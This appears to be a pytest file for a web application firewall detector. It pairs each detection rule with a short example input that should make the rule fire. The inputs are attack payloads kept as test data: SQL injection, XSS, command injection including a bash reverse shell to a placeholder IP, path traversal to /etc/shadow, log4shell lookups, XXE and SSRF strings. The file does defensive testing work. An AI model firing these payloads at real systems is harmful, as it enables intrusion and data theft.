"""Every rule has at least one example that makes it fire, and the table is complete.

Adding a rule without an example here fails ``test_every_rule_has_an_example``. Examples
are written for this file (not taken from a corpus) and sent as a query parameter to a
detector at paranoia 4, so that rules of every level can fire. Rules implemented in code
for bodies (XML, GraphQL, uploads, limits, JSON keys, URL parsing) are exercised by the
named tests listed in ``TESTED_ELSEWHERE``.
"""

from __future__ import annotations

from urllib.parse import urlencode

import pytest

from dijk.detect.engine import Detector
from dijk.detect.findings import RequestParts
from dijk.detect.rules import RULES

DETECTOR = Detector(paranoia=4)

EXAMPLES: dict[str, str] = {
    "sqli-libinjection": "1' OR '1'='1",
    "sqli-libinjection-weak": '"LIKE" STAMP',
    "sqli-union-select": "0 union all select null,version()",
    "sqli-time-function": "1 AND pg_sleep(10)",
    "sqli-tautology-quoted": "x' OR 'a'='a",
    "sqli-tautology-numeric": "5 or 2>1 --",
    "sqli-quote-comment": "admin'--",
    "sqli-stacked-query": "7; DROP TABLE invoices",
    "sqli-dangerous-function": "1 and load_file('/etc/hosts')",
    "sqli-boolean-subquery": "1 and (select 1)",
    "sqli-select-from": "select a, b from accounts",
    "sqli-order-group-probe": "1' ORDER BY 9--",
    "sqli-conditional": "case when 1=1 then 2 else 3 end",
    "sqli-postgres-json-operator": "' or '{\"role\":1}'::jsonb @> '{}'",
    "sqli-escaped-quote-breakout": '\\" or "1',
    "sqli-email-breakout": "ops@example.net'--",
    "sqli-ddl-statement": "ALTER TABLE accounts DROP limits",
    "sqli-destructive-statement": "TRUNCATE TABLE ledger;",
    "sqli-cast-or-hint": "position(x in y)::int",
    "sqli-hex-or-char-encoding": "0x41646d696e4e616d6531",
    "sqli-function-call": "x group_concat(name)",
    "sqli-quote-operator-probe": "'-'",
    "sqli-quote-cast": "1'::int--",
    "sqli-error-based": "x AND GTID_SUBSET(CONCAT(0x7171787671,(SELECT 1)),1)",
    "sqli-bare-comparison": "42<=>42",
    "sqli-mysql-comment-keyword": "/*!50000select*/",
    "sqli-keyword-comment": "union/**/",
    "sqli-statement-start": "select name from staff",
    "sqli-quote-keyword": "x' having",
    "xss-libinjection": "<body onload=go()>",
    "xss-script-tag": "<script>",
    "xss-event-handler": 'x" onfocus=go() autofocus "',
    "xss-dangerous-tag": "<iframe srcdoc=x>",
    "xss-tag-with-source": '<a href="javascript:go()">',
    "xss-javascript-uri": "javascript:go()",
    "xss-js-sink": "document.cookie",
    "xss-alert-call": "alert(1)",
    "xss-eval-family": "eval('go()')",
    "xss-spread-script-scheme": "java\tscript:",
    "xss-alternative-angle-brackets": "+ADw-img src=x+AD4-",
    "xss-js-obfuscation": "(![]+[])[+!+[]]",
    "xss-html-injection": "<div class=x>",
    "xss-style-expression": "width:expression(go())",
    "xss-html-tag": "<b>",
    "xss-js-encoding-helpers": "atob(x)",
    "xss-closing-breakout": '"><p',
    "cmdi-chained-command": "a; cat /etc/hostname",
    "cmdi-chained-word-command": "a | sort -r",
    "cmdi-shell-dash-c": "bash -c 'go'",
    "cmdi-recon-command-alone": "ipconfig",
    "cmdi-glob-path": "/???/b?n/sh",
    "cmdi-command-substitution": "$(hostname)",
    "cmdi-ifs-evasion": "cat${IFS}x",
    "cmdi-parameter-substring": "${PATH:0:1}etc${PATH:0:1}passwd",
    "cmdi-argument-injection": "--upload-pack=touch /tmp/pwned",
    "cmdi-shellshock": "() { :; }; echo",
    "cmdi-shell-path": "/bin/bash",
    "cmdi-reverse-shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "cmdi-windows": "& net user",
    "cmdi-ssi": '<!--#exec cmd="ls" -->',
    "cmdi-unix-command-alone": "tail -f /var/log/app.log",
    "path-traversal-dotdot": "../../x",
    "path-traversal-sensitive-file": "/etc/shadow",
    "path-traversal-invalid-utf8": "%c0%ae%c0%ae%c0%af",
    "path-traversal-double-percent": "..%%32%%66..%%32%%66x",
    "path-traversal-absolute": "/var/lib/app",
    "path-traversal-wrapper": "php://filter/resource=x",
    "path-traversal-unc": "\\\\fileserver\\share",
    "ssrf-remote-file-inclusion": "http://192.0.2.10/x.php",
    "ssrf-url-in-value": "https://example.org/",
    "ssrf-remote-script-url": "https://files.example.net/shell.txt",
    "nosql-operator-in-name": "user[$ne]",
    "nosql-operator-in-value": '{"$gt": ""}',
    "nosql-javascript": "db.users.find(",
    "ldap-filter-injection": "*)(uid=*))(|(uid=*",
    "ldap-extensible-match": "cn:2.5.13.2:=x",
    "ldap-wildcard-close": "adm*)",
    "ssti-arithmetic-probe": "{{6*6}}",
    "ssti-object-traversal": "{{ x.__class__ }}",
    "ssti-engine-directive": "<#assign x=1>",
    "ssti-expression": "${a.b()}",
    "log4shell-jndi": "${jndi:dns://192.0.2.1/a}",
    "log4shell-nested-lookup": "${${lower:x}}",
    "prototype-pollution-text": "__proto__[admin]",
    "xxe-entity": '<!ENTITY x SYSTEM "file:///etc/hosts">',
    "xxe-xinclude": '<xi:include href="file:///etc/hosts"/>',
    "xxe-schema-location": 'schemaLocation="http://192.0.2.1/s.xsd"',
    "code-php": "<?php echo 1; ?>",
    "code-java": "Runtime.getRuntime()",
    "code-expression-language": "%{#context}",
    "code-node": "require('child_process')",
    "code-python": "__import__('os')",
    "code-perl-ruby": "%x(ls)",
    "code-vbscript-asp": 'CreateObject("WScript.Shell")',
    "crlf-header-injection": "x\r\nSet-Cookie: a=b",
    "crlf-in-request-line": "a\nb",
    "scanner-user-agent": "",  # a header rule: see test_scanner_user_agent_is_found
}

# Rules implemented in code or on body shapes, and the tests that make them fire.
TESTED_ELSEWHERE = {
    "ssrf-dangerous-scheme": "test_detect_ssrf.py",
    "ssrf-internal-host": "test_detect_ssrf.py / test_detect_engine.py::test_ssrf_urls_are_blocked",
    "ssrf-private-host": "test_detect_ssrf.py",
    "ssrf-obfuscated-ip": "test_detect_ssrf.py",
    "nosql-operator-key": "test_detect_engine.py::test_nosql_operator_as_a_json_key_is_blocked",
    "prototype-pollution-key": "test_detect_engine.py::test_prototype_pollution_keys_are_blocked",
    "xxe-doctype": "test_detect_engine.py::test_xxe_external_entity_is_blocked",
    "xxe-malformed": "test_detect_engine.py (XML bodies)",
    "xxe-unusual-encoding": "test_detect_engine.py::test_utf7_xml_is_blocked",
    "upload-executable-extension": "test_detect_engine.py (multipart uploads)",
    "upload-content-mismatch": "test_detect_engine.py (upload disguised as an image)",
    "upload-archive-bomb": "test_detect_archives.py",
    "graphql-introspection": "test_detect_engine.py (GraphQL)",
    "graphql-depth": "test_detect_engine.py (GraphQL)",
    "graphql-aliases": "test_detect_engine.py (GraphQL)",
    "graphql-batch": "test_detect_engine.py (GraphQL)",
    "graphql-syntax": "test_detect_engine.py (GraphQL)",
    "graphql-fragment-cycle": "test_detect_graphql.py::test_fragment_cycles_are_refused",
    "graphql-expansion": "test_detect_graphql.py (fragment bombs)",
    "graphql-duplicate-fields": "test_detect_graphql.py::test_field_duplication_is_refused",
    "graphql-directives": "test_detect_graphql.py::test_directive_overloading_is_refused",
    "graphql-fragment-depth": "test_detect_graphql.py::test_a_long_chain_of_fragments_is_refused",
    "graphql-page-size": "test_detect_graphql.py (page sizes)",
    "limits-graphql-too-large": "test_detect_graphql.py (token and nesting budgets)",
    "limits-too-many-values": "test_detect_engine.py / test_waf_stage.py (limits)",
    "limits-too-deep": "test_detect_fuzz.py::test_deep_json_is_reported_not_crashing",
    "limits-inflated-too-large": "test_detect_archives.py",
    "limits-unknown-encoding": "test_detect_archives.py",
}


def test_every_rule_has_an_example() -> None:
    covered = set(EXAMPLES) | set(TESTED_ELSEWHERE)
    assert {rule.rule_id for rule in RULES} == covered


@pytest.mark.parametrize(
    ("rule_id", "text"), [(rule_id, text) for rule_id, text in EXAMPLES.items() if text]
)
def test_the_example_makes_its_rule_fire(rule_id: str, text: str) -> None:
    verdict = DETECTOR.inspect(
        RequestParts.from_target("GET", "/api/v1/things?" + urlencode({"q": text}))
    )
    assert rule_id in {finding.rule_id for finding in verdict.findings}, text


def test_scanner_user_agent_is_found() -> None:
    request = RequestParts.from_target("GET", "/", [("User-Agent", "sqlmap/1.8#stable")])
    assert "scanner-user-agent" in DETECTOR.inspect(request).rule_ids
